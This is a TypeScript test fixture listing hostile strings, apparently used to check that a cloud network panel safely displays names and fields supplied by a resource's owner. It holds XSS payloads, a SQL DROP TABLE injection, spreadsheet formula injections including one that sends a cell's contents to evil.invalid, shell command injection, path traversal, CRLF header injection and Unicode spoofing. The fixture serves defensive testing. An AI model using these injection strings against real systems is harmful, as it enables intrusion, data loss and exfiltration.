/** A text that a malicious or careless owner may have given to anything in a cloud. */
export interface HostileText {
  what: string
  text: string
}

const marks = '\u0300\u0301\u0323\u0336\u0338\u0353\u0488'

/**
 * Every kind of text that has broken a panel somewhere. Where one of them runs as script, it calls `tripped`. Neutron
 * refuses some of them; other drivers, older databases and a hostile cloud do not.
 */
export const hostileTexts: readonly HostileText[] = [
  { what: 'a script', text: `<script>tripped('script')</script>` },
  { what: 'an image with a handler', text: `<img src=x onerror="tripped('img')">` },
  {
    what: 'a drawing with a handler',
    text: `<svg/onload=tripped('svg')><a xlink:href="javascript:tripped('a')">x`,
  },
  {
    what: 'markup that leaves what it stands in',
    text: `--></title></style></textarea>"'><iframe srcdoc="<script>parent.tripped('frame')</script>">`,
  },
  { what: 'a script as address', text: `javascript:tripped('url')//https://evil.invalid/` },
  { what: 'a page as address', text: `data:text/html,<script>opener.tripped('data')</script>` },
  {
    what: 'templates',
    text: '{{constructor.constructor("tripped(1)")()}} ${tripped(2)} #{tripped(3)} <%= tripped(4) %> %{ if true }',
  },
  { what: 'a query', text: `'; DROP TABLE ipsec_site_connections; -- " OR 1=1 /*` },
  { what: 'a formula', text: `=HYPERLINK("https://evil.invalid/?"&A1,"open")` },
  { what: 'a formula behind a blank', text: `\t@SUM(1+1)*cmd|'/C calc'!A0` },
  { what: 'a formula with a plus', text: '+1+1;=1+1' },
  { what: 'a formula with a minus', text: '-2+3+cmd|x' },
  { what: 'a shell command', text: `"; touch /tmp/tripped; $(touch /tmp/tripped) \`id\` ' && id # \\` },
  {
    what: 'lines of a configuration',
    text: 'hq\n}\nsecrets {\n  ike-evil {\n    secret = "evil"\r\n  }\n#\u2028!\u0085set system root',
  },
  {
    what: 'quotes and what escapes them',
    text: `"'\`\\"\\'\\u0022 \${x} %{x} $\${y} !!python/name:os.system - : # |`,
  },
  { what: 'control characters', text: 'a\u0000b\u0007\b\f\u001B[2J\u001B]0;evil\u0007\u007F\u009B31mred' },
  { what: 'overrides of direction', text: 'invoice\u202Efdp.exe\u202D \u202Bx\u202C' },
  { what: 'isolates of direction', text: '\u2066a\u2067b \u2069\u2069\u2068c\u200E\u200F\u061C' },
  { what: 'words from right to left', text: 'שלום עולם (10.0.0.0/8) العربية 42' },
  { what: 'what has no width', text: 'ad\u200Bmin\u200C\u200D\u2060\uFEFF\u00AD\u3164istrator\u{E0041}' },
  { what: 'a flood of marks', text: Array.from('tower', (letter) => letter + marks.repeat(12)).join('') },
  { what: 'emoji and half of one', text: '👩‍💻🏳️‍🌈 🇩🇪 👍🏽 \uD83D \uDE00' },
  { what: 'a word without an end', text: 'W'.repeat(10_000) },
  { what: 'the name of every prototype', text: '__proto__' },
  { what: 'the name of every constructor', text: 'constructor' },
  { what: 'a way out of the folder', text: '../../../v2.0/routers/..\\..\\evil' },
  { what: 'the folder above', text: '..' },
  { what: 'an encoded way out', text: '%2e%2e%2f%00%0d%0aSet-Cookie:%20a=b;%5c..' },
  { what: 'nothing but blanks', text: ' \u00A0\u2003\u3000 ' },
]
